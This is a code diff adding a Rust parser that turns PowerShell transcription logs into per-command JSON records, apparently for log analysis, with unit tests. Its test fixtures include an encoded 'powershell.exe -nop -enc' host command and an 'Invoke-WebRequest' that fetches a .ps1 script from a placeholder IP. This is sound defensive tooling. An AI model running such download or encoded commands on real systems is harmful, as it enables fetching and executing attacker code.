@@ -0,0 +1,390 @@
+use crate::core::{LineJoiner, LinePos, Parser};
+use serde::Serialize;
+use std::borrow::Cow;
+
+pub fn new() -> Box<dyn Parser> {
+    Box::new(PsTranscript)
+}
+
+/// PowerShell transcription files (`Start-Transcript`, or the
+/// `EnableTranscripting` policy): a start banner between `****` lines naming
+/// the user, machine and host application, then the console as typed, with
+/// a `Command start time:` banner before each command when invocation
+/// headers are on. One record per command, the session banner copied in.
+pub struct PsTranscript;
+
+/// Longest command output kept; the rest of it is dropped.
+const MAX_LINES: usize = 10_000;
+
+/// A banner still open after this many lines was a stray `****` line in the
+/// output; its lines are dropped.
+const MAX_BANNER_LINES: usize = 64;
+
+const STARS: &[u8] = b"**********************";
+
+#[derive(Default, Serialize)]
+struct Record<'a> {
+    /// Local time of the command's invocation header, else of the session
+    /// start, `2024-01-20T10:11:15`.
+    ts: Option<String>,
+    session_start: Option<String>,
+    /// `DOMAIN\user` the session ran as.
+    user: Option<&'a str>,
+    runas_user: Option<&'a str>,
+    machine: Option<&'a str>,
+    /// `Microsoft Windows NT 10.0.19045.0`, from the `Machine:` line.
+    os: Option<&'a str>,
+    /// Host process command line, `-EncodedCommand` and all.
+    host_application: Option<&'a str>,
+    process_id: Option<u32>,
+    ps_version: Option<&'a str>,
+    /// Location shown in the prompt, `C:\Users\alice`.
+    cwd: Option<&'a str>,
+    /// The command as typed, `>>` continuation lines included.
+    command: Option<String>,
+    output: String,
+}
+
+/// Rebuilds one record per command: the `Key: value` lines of the session
+/// banner and of the command's own banner, a `****` line, then the prompt
+/// line and the output.
+#[derive(Default)]
+struct TranscriptJoiner {
+    session: Vec<u8>,
+    /// Lines of the banner being read, between two `****` lines, and
+    /// where it opened.
+    banner: Option<(LinePos, Vec<Vec<u8>>)>,
+    /// Body of the command being read, its banner first, and where it
+    /// started (its banner or prompt line).
+    command: Option<(LinePos, Vec<u8>)>,
+    /// Whether the pending command has its prompt line yet.
+    prompted: bool,
+    lines: usize,
+}
+
+impl TranscriptJoiner {
+    fn flush(&mut self, emit: &mut dyn FnMut(&[u8], LinePos)) {
+        if let Some((at, command)) = self.command.take() {
+            emit(&command, at);
+        }
+        self.prompted = false;
+        self.lines = 0;
+    }
+
+    fn open(&mut self, banner: &[u8], at: LinePos) {
+        let mut command = self.session.clone();
+        command.extend_from_slice(banner);
+        command.extend_from_slice(STARS);
+        self.command = Some((at, command));
+    }
+
+    fn close_banner(
+        &mut self,
+        (at, banner): (LinePos, Vec<Vec<u8>>),
+        emit: &mut dyn FnMut(&[u8], LinePos),
+    ) {
+        let has = |text: &[u8]| {
+            banner
+                .iter()
+                .any(|l| l.windows(text.len()).any(|w| w == text))
+        };
+        if has(b"transcript start") {
+            self.flush(emit);
+            self.session.clear();
+            for line in banner.iter().filter(|l| l.contains(&b':')) {
+                self.session.extend_from_slice(line);
+                self.session.push(b'\n');
+            }
+        } else if has(b"transcript end") {
+            self.flush(emit);
+            self.session.clear();
+        } else if let Some(start) = banner
+            .iter()
+            .find(|l| l.starts_with(b"Command start time:"))
+        {
+            self.flush(emit);
+            let mut header = start.clone();
+            header.push(b'\n');
+            self.open(&header, at);
+        }
+    }
+}
+
+impl LineJoiner for TranscriptJoiner {
+    fn push(&mut self, line: &[u8], at: LinePos, emit: &mut dyn FnMut(&[u8], LinePos)) {
+        let line = line.strip_prefix("\u{feff}".as_bytes()).unwrap_or(line);
+        let line = line.strip_suffix(b"\r").unwrap_or(line);
+
+        if line == STARS {
+            match self.banner.take() {
+                Some(banner) => self.close_banner(banner, emit),
+                None => self.banner = Some((at, Vec::new())),
+            }
+            return;
+        }
+        if let Some((_, banner)) = &mut self.banner {
+            banner.push(line.to_vec());
+            if banner.len() > MAX_BANNER_LINES {
+                self.banner = None;
+            }
+            return;
+        }
+
+        let typed = std::str::from_utf8(line)
+            .ok()
+            .and_then(prompt)
+            .map(|(_, command)| !command.is_empty());
+        match typed {
+            // Without invocation headers each prompt starts a command.
+            Some(true) if self.prompted || self.command.is_none() => {
+                self.flush(emit);
+                self.open(b"", at);
+            }
+            // Enter on an empty prompt: ends the command, starts none.
+            Some(false) if self.prompted || self.command.is_none() => {
+                self.flush(emit);
+                return;
+            }
+            _ => {}
+        }
+        let Some((_, command)) = &mut self.command else {
+            // `Transcript started, output file is ...` and the like.
+            return;
+        };
+        if self.lines < MAX_LINES {
+            command.push(b'\n');
+            command.extend_from_slice(line);
+            self.lines += 1;
+        }
+        self.prompted |= typed.is_some();
+    }
+
+    fn finish(&mut self, emit: &mut dyn FnMut(&[u8], LinePos)) {
+        self.flush(emit);
+        self.session.clear();
+        self.banner = None;
+    }
+}
+
+/// `PS C:\Users\alice> whoami` -> (`C:\Users\alice`, `whoami`); `PS>whoami`
+/// (a script or remote host's prompt) has no location.
+fn prompt(line: &str) -> Option<(Option<&str>, &str)> {
+    let rest = line.strip_prefix("PS")?;
+    if let Some(command) = rest.strip_prefix('>') {
+        return Some((None, command.trim()));
+    }
+    let rest = rest.strip_prefix(' ')?;
+    let (cwd, command) = match rest.split_once("> ") {
+        Some(parts) => parts,
+        None => (rest.strip_suffix('>')?, ""),
+    };
+    // `C:\`, `HKLM:\`, `/home/alice`, `~`, `Microsoft.PowerShell.Core\FileSystem::\\srv`.
+    if !cwd.contains([':', '\\', '/', '~']) {
+        return None;
+    }
+    Some((Some(cwd), command.trim()))
+}
+
+/// `20240120101112` -> `2024-01-20T10:11:12`.
+fn local_time(s: &str) -> Option<String> {
+    let s = s.trim();
+    if s.len() != 14 || !s.bytes().all(|c| c.is_ascii_digit()) {
+        return None;
+    }
+    Some(format!(
+        "{}-{}-{}T{}:{}:{}",
+        &s[..4],
+        &s[4..6],
+        &s[6..8],
+        &s[8..10],
+        &s[10..12],
+        &s[12..]
+    ))
+}
+
+fn parse(record: &str) -> Option<Record<'_>> {
+    let (head, body) = record.split_once(std::str::from_utf8(STARS).ok()?)?;
+    let mut rec = Record::default();
+    let mut invoked = None;
+    for line in head.lines() {
+        let Some((key, value)) = line.split_once(':') else {
+            continue;
+        };
+        let value = Some(value.trim()).filter(|v| !v.is_empty());
+        match key {
+            "Start time" => rec.session_start = value.and_then(local_time),
+            "Command start time" => invoked = value.and_then(local_time),
+            "Username" => rec.user = value,
+            "RunAs User" => rec.runas_user = value,
+            // `WS042 (Microsoft Windows NT 10.0.19045.0)`.
+            "Machine" => {
+                let value = value.unwrap_or_default();
+                let (machine, os) = value.split_once(" (").unwrap_or((value, ""));
+                rec.machine = Some(machine).filter(|m| !m.is_empty());
+                rec.os = os.strip_suffix(')');
+            }
+            "Host Application" => rec.host_application = value,
+            "Process ID" => rec.process_id = value.and_then(|v| v.parse().ok()),
+            "PSVersion" => rec.ps_version = value,
+            _ => {}
+        }
+    }
+    let mut lines = body.strip_prefix('\n').unwrap_or(body).lines().peekable();
+    if let Some((cwd, first)) = lines.peek().and_then(|l| prompt(l)) {
+        lines.next();
+        rec.cwd = cwd;
+        let mut command = first.to_string();
+        while let Some(more) = lines.peek().and_then(|l| l.strip_prefix(">>")) {
+            command.push('\n');
+            command.push_str(more.trim_start());
+            lines.next();
+        }
+        rec.command = Some(command);
+    } else if invoked.is_none() {
+        return None;
+    }
+    rec.output = lines.collect::<Vec<_>>().join("\n").trim_end().to_string();
+    rec.ts = invoked.or_else(|| rec.session_start.clone());
+    Some(rec)
+}
+
+impl Parser for PsTranscript {
+    fn name(&self) -> Cow<'static, str> {
+        Cow::Borrowed("ps-transcript")
+    }
+
+    fn description(&self) -> Cow<'static, str> {
+        Cow::Borrowed("PowerShell transcription files -> one JSONL record per command")
+    }
+
+    fn line_joiner(&self) -> Option<Box<dyn LineJoiner>> {
+        Some(Box::<TranscriptJoiner>::default())
+    }
+
+    fn recognizes(&self, line: &str) -> bool {
+        let line = line.trim_start_matches('\u{feff}').trim_end();
+        line.ends_with("PowerShell transcript start")
+            || line
+                .strip_prefix("Command start time: ")
+                .is_some_and(|t| local_time(t).is_some())
+    }
+
+    fn process_line_to_buf(&self, line: &str, out: &mut Vec<u8>) -> bool {
+        let Some(rec) = parse(line) else {
+            return false;
+        };
+        if serde_json::to_writer(&mut *out, &rec).is_ok() {
+            out.push(b'\n');
+            return true;
+        }
+        false
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::Value;
+
+    const HEADER: &[&str] = &[
+        "\u{feff}**********************",
+        "Windows PowerShell transcript start",
+        "Start time: 20240120101112",
+        "Username: CORP\\alice",
+        "RunAs User: CORP\\alice",
+        "Configuration Name: ",
+        "Machine: WS042 (Microsoft Windows NT 10.0.19045.0)",
+        "Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -enc ZQBjAGgAbwA=",
+        "Process ID: 4242",
+        "PSVersion: 5.1.19041.3803",
+        "**********************",
+    ];
+
+    fn run(lines: &[&str]) -> Vec<Value> {
+        let mut j = TranscriptJoiner::default();
+        let mut records = Vec::new();
+        let mut parse = |r: &[u8], _| {
+            let mut out = Vec::new();
+            assert!(PsTranscript.process_line_to_buf(std::str::from_utf8(r).unwrap(), &mut out));
+            records.push(serde_json::from_slice(&out).unwrap());
+        };
+        for l in HEADER.iter().chain(lines) {
+            j.push(l.as_bytes(), LinePos::default(), &mut parse);
+        }
+        j.finish(&mut parse);
+        records
+    }
+
+    #[test]
+    fn splits_commands_by_invocation_header() {
+        let v = run(&[
+            "**********************",
+            "Command start time: 20240120101115",
+            "**********************",
+            "PS C:\\Users\\alice> whoami",
+            "corp\\alice",
+            "**********************",
+            "Command start time: 20240120101120",
+            "**********************",
+            "PS C:\\Users\\alice> Get-Item x |",
+            ">> Remove-Item",
+            "",
+            "**********************",
+            "Windows PowerShell transcript end",
+            "End time: 20240120101200",
+            "**********************",
+        ]);
+        assert_eq!(v.len(), 2);
+        assert_eq!(v[0]["ts"], "2024-01-20T10:11:15");
+        assert_eq!(v[0]["session_start"], "2024-01-20T10:11:12");
+        assert_eq!(v[0]["user"], "CORP\\alice");
+        assert_eq!(v[0]["runas_user"], "CORP\\alice");
+        assert_eq!(v[0]["machine"], "WS042");
+        assert_eq!(v[0]["os"], "Microsoft Windows NT 10.0.19045.0");
+        assert_eq!(
+            v[0]["host_application"],
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -enc ZQBjAGgAbwA="
+        );
+        assert_eq!(v[0]["process_id"], 4242);
+        assert_eq!(v[0]["ps_version"], "5.1.19041.3803");
+        assert_eq!(v[0]["cwd"], "C:\\Users\\alice");
+        assert_eq!(v[0]["command"], "whoami");
+        assert_eq!(v[0]["output"], "corp\\alice");
+        assert_eq!(v[1]["ts"], "2024-01-20T10:11:20");
+        assert_eq!(v[1]["command"], "Get-Item x |\nRemove-Item");
+        assert_eq!(v[1]["output"], "");
+    }
+
+    #[test]
+    fn splits_commands_by_prompt() {
+        let v = run(&[
+            "Transcript started, output file is C:\\t\\PowerShell_transcript.txt",
+            "PS C:\\> ipconfig",
+            "",
+            "Windows IP Configuration",
+            "PS C:\\> ",
+            "PS>Invoke-WebRequest http://198.51.100.7/a.ps1",
+            "PS C:\\> Stop-Transcript",
+        ]);
+        assert_eq!(v.len(), 3);
+        assert_eq!(v[0]["ts"], "2024-01-20T10:11:12");
+        assert_eq!(v[0]["command"], "ipconfig");
+        assert_eq!(v[0]["output"], "\nWindows IP Configuration");
+        assert_eq!(v[1]["cwd"], Value::Null);
+        assert_eq!(
+            v[1]["command"],
+            "Invoke-WebRequest http://198.51.100.7/a.ps1"
+        );
+        assert_eq!(v[2]["command"], "Stop-Transcript");
+        assert_eq!(v[2]["user"], "CORP\\alice");
+    }
+
+    #[test]
+    fn recognizes_banner_lines() {
+        assert!(PsTranscript.recognizes("\u{feff}Windows PowerShell transcript start"));
+        assert!(PsTranscript.recognizes("PowerShell transcript start\r"));
+        assert!(PsTranscript.recognizes("Command start time: 20240120101115"));
+        assert!(!PsTranscript.recognizes("**********************"));
+        assert!(!PsTranscript.recognizes("PS C:\\> whoami"));
+    }
+}